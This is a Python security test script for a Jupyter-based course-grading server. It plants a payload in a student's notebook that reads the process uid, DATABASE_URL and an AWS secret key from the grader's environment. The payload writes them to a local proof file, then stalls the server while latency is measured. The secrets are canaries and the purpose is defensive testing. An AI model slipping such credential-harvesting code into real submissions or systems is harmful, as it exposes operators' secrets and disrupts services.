"""a08: a07 through the real HTTP route of a real Jupyter server started as `make lab` starts it (venv's jupyter,
notebook dir = the course, PYTHONSAFEPATH=1 DISTCOURSE_JUDGE=kernel, the TA's environment with the canaries):
POST /assignments/validate {path: the hand-in}. The hand-in writes a proof file and sleeps 20 s in one cell; a
probe asks GET /api/status every 0.5 s meanwhile (is the TA's whole server frozen while it runs?)."""
import json, os, subprocess, threading, time, urllib.request
from harness import *
PROOF = "/tmp/attack38-root-a08-proof.txt"
PAYLOAD = r'''
import os, json, time
open(PROOF, "a").write(json.dumps({"uid": os.getuid(), "DATABASE_URL": os.environ.get("DATABASE_URL"),
                                  "AWS": os.environ.get("AWS_SECRET_ACCESS_KEY")}) + "\n")
time.sleep(20)
'''.replace("PROOF", repr(PROOF))
PORT, TOKEN = 18838, "a08token"
def req(method, path, body=None, timeout=120):
    r = urllib.request.Request(f"http://127.0.0.1:{PORT}{path}", method=method, data=body,
                               headers={"Authorization": f"token {TOKEN}", "Content-Type": "application/json"})
    with urllib.request.urlopen(r, timeout=timeout) as resp: return resp.status, resp.read()
if __name__ == "__main__":
    if os.path.exists(PROOF): os.unlink(PROOF)
    d = make_course("a08")
    put(d, "aaron", solution_nb())
    nb = solution_nb()
    for c in nb.cells:
        if c.get("metadata",{}).get("nbgrader",{}).get("grade_id") == "training_memory":
            c.source = c.source + "\n" + PAYLOAD
    put(d, "mallory", nb)
    put(d, "zoe", solution_nb())
    grade(d); scores(d)
    print("proof after make grade:", open(PROOF).read() if os.path.exists(PROOF) else "none")
    env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123",
               PYTHONSAFEPATH="1", DISTCOURSE_JUDGE="kernel")
    log = open("tests/attacks/round38/a08.server.log", "w")
    srv = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "server", "--no-browser", f"--port={PORT}", "--ip=127.0.0.1",
                            f"--ServerApp.token={TOKEN}", "--allow-root", f"--ServerApp.root_dir={d}"],
                           cwd=d, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        for _ in range(60):
            try: req("GET", "/api/status", timeout=2); break
            except Exception: time.sleep(1)
        lat, stop = [], threading.Event()
        def poll():
            while not stop.is_set():
                t = time.time()
                try: req("GET", "/api/status", timeout=60)
                except Exception as e: pass
                lat.append((round(t, 1), round(time.time() - t, 2))); time.sleep(0.5)
        th = threading.Thread(target=poll); th.start()
        t0 = time.time()
        st, body = req("POST", "/assignments/validate", json.dumps({"path": "submitted/mallory/ps1_memory/ps1_memory.ipynb"}).encode(), timeout=300)
        print(f"POST /assignments/validate -> {st} in {time.time()-t0:.1f}s:", body[:200])
        time.sleep(2); stop.set(); th.join()
        print("GET /api/status latencies during the validate (s):", sorted((l for _, l in lat), reverse=True)[:5], "n =", len(lat))
    finally:
        srv.terminate(); srv.wait(20)
    print("proof after the server's validate route:", open(PROOF).read() if os.path.exists(PROOF) else "none")
    if os.path.exists(PROOF): os.unlink(PROOF)
